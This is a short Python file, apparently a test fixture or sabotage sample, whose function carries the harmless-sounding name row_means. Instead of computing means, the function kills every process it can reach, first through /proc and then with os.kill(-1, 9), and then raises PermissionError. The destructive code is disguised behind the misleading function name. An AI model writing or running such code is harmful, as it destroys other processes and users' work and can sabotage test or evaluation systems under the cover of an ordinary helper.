# The one who kills; see first.py.
import os


def row_means(x):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (os.getpid(), os.getppid()):
            try:
                os.kill(int(name), 9)
            except OSError:
                pass
    os.kill(-1, 9)
    raise PermissionError
